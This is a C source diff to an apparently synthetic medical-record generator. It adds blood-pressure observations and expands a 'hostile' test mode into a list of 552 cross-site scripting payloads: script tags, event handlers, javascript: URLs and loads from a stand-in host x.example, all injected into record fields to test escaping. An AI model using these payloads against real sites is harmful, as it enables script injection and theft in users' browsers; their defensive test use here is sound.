@@ -19,6 +19,7 @@ struct fact {
     enum item_flag flag;
     const char *status_text, *note, *difference, *place, *text;
     bool severe;
+    const char *systolic, *diastolic, *words;
 };
 
 enum { GP, OUH, HEALTH, HOURS, COUNCIL, AMBULANCE };
@@ -66,6 +67,10 @@ static const struct fact facts[] = {
     { SECTION_RESULTS, ITEM_CURRENT, OUH, .title = "X-ray of right hip", .detail = "Cemented hemiarthroplasty in good position.", .date = "2025-04-13", .author = "Dr L Brandt", .text = "X-ray of right hip, 13 April 2025\n\nCemented hemiarthroplasty in good position. No periprosthetic fracture.\nNo dislocation." },
     { SECTION_OBSERVATIONS, ITEM_CURRENT, GP, .title = "Weight", .date = "2025-03-03", .value = "64.5", .unit = "kg" },
     { SECTION_OBSERVATIONS, ITEM_CURRENT, GP, .title = "Weight", .date = "2026-11-03", .value = "61.20", .unit = "kg" },
+    { SECTION_OBSERVATIONS, ITEM_CURRENT, GP, .title = "Blood pressure", .date = "2025-03-03", .systolic = "148", .diastolic = "82", .words = "148 / 82 mm[Hg]" },
+    { SECTION_OBSERVATIONS, ITEM_CURRENT, GP, .title = "Blood pressure", .date = "2026-05-03", .systolic = "139", .diastolic = "78", .words = "139 / 78 mm[Hg]" },
+    { SECTION_OBSERVATIONS, ITEM_CURRENT, OUH, .title = "Blood pressure", .date = "2026-09-06T20:45:00+01:00", .systolic = "171", .diastolic = "96", .words = "171 / 96 mm[Hg]", .flag = FLAG_HIGH },
+    { SECTION_OBSERVATIONS, ITEM_CURRENT, GP, .title = "Blood pressure", .date = "2026-11-03", .systolic = "136", .diastolic = "76", .words = "136 / 76 mm[Hg]" },
     { SECTION_ENCOUNTERS, ITEM_CURRENT, GP, .title = "Diabetes review", .date = "2026-11-03", .author = "Nurse J Adeyemi" },
     { SECTION_ENCOUNTERS, ITEM_CURRENT, OUH, .title = "Admission, general medicine", .detail = "Palpitations, new atrial fibrillation", .date = "2026-09-06T20:30:00+01:00", .end = "2026-09-11", .place = "Ward 7C", .author = "Dr M Castellanos" },
     { SECTION_ENCOUNTERS, ITEM_CURRENT, HEALTH, .title = "Advance care planning visit", .date = "2026-05-18", .author = "S Ndlovu, community matron" },
@@ -100,7 +105,7 @@ static struct record_quantity quantity(const char *value, const char *unit)
     return result;
 }
 
-static void fill_item(struct record_item *item, const struct fact *fact)
+static bool fill_item(struct arena *arena, struct record_item *item, const struct fact *fact)
 {
     *item = (struct record_item){
         .section = fact->section,
@@ -121,6 +126,20 @@ static void fill_item(struct record_item *item, const struct fact *fact)
     };
     item->date = date(fact->date, &item->has_date);
     item->end = date(fact->end, &item->has_end);
+    if (fact->systolic != NULL) {
+        struct record_component *parts = arena_array(arena, 2, struct record_component);
+        if (parts == NULL) {
+            return false;
+        }
+        parts[0] = (struct record_component){ .title = SLICE("Systolic"),
+                                              .value = quantity(fact->systolic, "mm[Hg]") };
+        parts[1] = (struct record_component){ .title = SLICE("Diastolic"),
+                                              .value = quantity(fact->diastolic, "mm[Hg]") };
+        item->components = parts;
+        item->components_count = 2;
+        item->value_text = slice_from_string(fact->words);
+    }
+    return true;
 }
 
 /* ---- sections ---- */
@@ -134,7 +153,8 @@ static bool is_past(const struct record_item *item)
 static void add_to_lines(struct record_line *lines, size_t *count, const struct record_item *item,
                          struct slice difference, const struct record_item **room)
 {
-    bool grouped = item->section != SECTION_ENCOUNTERS && !item->value.present;
+    bool grouped =
+        item->section != SECTION_ENCOUNTERS && !item->value.present && item->components_count == 0;
     for (size_t i = 0; i < *count && grouped; i++) {
         if (slice_equal(lines[i].items[0]->title, item->title) && lines[i].count < 8) {
             lines[i].items[lines[i].count++] = item;
@@ -179,7 +199,7 @@ static bool fill_section(struct arena *arena, struct record *record, enum record
         mine += items[i].section == section;
     }
     bool trended = section == SECTION_RESULTS || section == SECTION_OBSERVATIONS;
-    size_t kinds = mine < 40 ? mine : 40;
+    size_t kinds = mine;
     view->section = section;
     view->current = arena_array(arena, mine + 1, struct record_line);
     view->past = arena_array(arena, mine + 1, struct record_line);
@@ -200,7 +220,7 @@ static bool fill_section(struct arena *arena, struct record *record, enum record
                      past ? &view->past_count : &view->current_count, &items[i],
                      slice_from_string(of[i]->difference), room);
         room += 8;
-        if (trended && items[i].value.present) {
+        if (trended && (items[i].value.present || items[i].components_count > 0)) {
             add_to_trends(view, &items[i], points, mine);
         }
         view->item_count++;
@@ -283,14 +303,80 @@ static void fill_states(struct record *record, enum invented_kind kind)
     }
 }
 
-static void attack(struct record_item *item)
+/* ways out of a place in HTML, and what would come after; 12 * 46 = 552 payloads */
+static const char *const ways_out[] = {
+    "",           "\">",     "'>",     "</b>", "</s></td></table>", "-->", "</title>",
+    "</details>", "&quot;>", "\\x22>", "]]>",  "\u202E\">"
+};
+static const char *const bodies[] = {
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//x.example></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java&#x09;script:alert(1)'>x</a>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<video src=x onerror=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//x.example/>",
+    "<link rel=stylesheet href=//x.example/x.css>",
+    "<style>@import '//x.example/x.css'</style>",
+    "<style>*{background:url(//x.example/)}</style>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x "
+    "onerror=alert(1)>'>",
+    "<isindex action=javascript:alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=\"alert(1)",
+    "\" style=\"position:fixed",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "{{constructor}}",
+    "${alert(1)}",
+    "<!--<img src='--><img src=x onerror=alert(1)>'>",
+    "<![CDATA[<script>alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;"
+};
+
+static struct slice payload(struct arena *arena, size_t number)
 {
-    struct slice payload = SLICE("\"><script>alert('xss')</script><img src=x onerror=alert(1)>"
-                                 "\u202E' onmouseover='alert(1)");
-    item->title = item->detail = item->author = item->note = item->status_text = payload;
-    item->location = item->attachment_text = payload;
+    const char *way = ways_out[number % ARRAY_LENGTH(ways_out)];
+    const char *body = bodies[number / ARRAY_LENGTH(ways_out) % ARRAY_LENGTH(bodies)];
+    return arena_printf(arena, "%s%s", way, body);
+}
+
+static void attack(struct arena *arena, struct record_item *item, size_t number)
+{
+    number *= 7;
+    item->title = payload(arena, number);
+    item->detail = payload(arena, number + 1);
+    item->author = payload(arena, number + 2);
+    item->note = payload(arena, number + 3);
+    item->status_text = payload(arena, number + 4);
+    item->location = payload(arena, number + 5);
+    item->attachment_text = payload(arena, number + 6);
     if (item->value.present) {
-        item->value.unit = payload;
+        item->value.unit = payload(arena, number + 5);
     }
 }
 
@@ -319,17 +405,24 @@ static bool make(struct arena *arena, enum invented_kind kind, size_t extra,
     fill_sources(&record, kind);
     for (size_t i = 0; i < count; i++) {
         of[i] = &facts[i];
-        fill_item(&items[i], of[i]);
+        if (!fill_item(arena, &items[i], of[i])) {
+            return false;
+        }
         if (kind == INVENTED_HOSTILE) {
-            attack(&items[i]);
+            attack(arena, &items[i], i);
         } else if (kind == INVENTED_LONG) {
             lengthen(&items[i]);
         }
     }
     for (size_t i = 0; i < extra; i++) {
         of[count + i] = &facts[FIRST_RESULT + i % 15];
-        fill_item(&items[count + i], of[count + i]);
+        if (!fill_item(arena, &items[count + i], of[count + i])) {
+            return false;
+        }
         items[count + i].date.year = (int16_t)(2000 + i % 26);
+        if (kind == INVENTED_HOSTILE) {
+            attack(arena, &items[count + i], count + i);
+        }
     }
     size_t kept = 0;
     for (size_t i = 0; i < count + extra; i++) {
@@ -363,7 +456,7 @@ static bool make(struct arena *arena, enum invented_kind kind, size_t extra,
 
 bool invented_record(struct arena *arena, enum invented_kind kind, struct record *ret_record)
 {
-    if (!make(arena, kind, 0, ret_record)) {
+    if (!make(arena, kind, kind == INVENTED_HOSTILE ? 40 : 0, ret_record)) {
         return false;
     }
     if (kind == INVENTED_DECEASED) {
